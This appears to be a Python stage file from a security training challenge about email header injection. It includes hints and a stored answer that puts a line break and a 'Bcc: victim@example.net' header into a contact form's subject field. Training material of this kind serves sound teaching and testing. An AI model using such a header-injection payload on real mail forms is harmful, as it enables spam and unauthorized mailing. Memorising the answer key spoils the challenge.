"""Have the message delivered to `victim@example.net` as well."""

from prover import Target

from .stage import Stage

INPUT = "json"
LABEL = "The address and the subject, as JSON: `\\n` is a line break"
START = '["me@example.com", "Hello"]'
HINTS = (
    "In the head of a message, each field ends with a line break.",
    "The field `Bcc:` names recipients whom the others do not see.",
)
ANSWER = '["me@example.com", "Hello\\nBcc: victim@example.net"]'


def attempt(target: Target, stage: Stage, given: list[str]) -> bool:
    sender, subject = given
    sent = target.contact_mail(sender, subject, "Good day!")
    print(sent.decode())
    return "victim@example.net" in stage.recipients(sent)
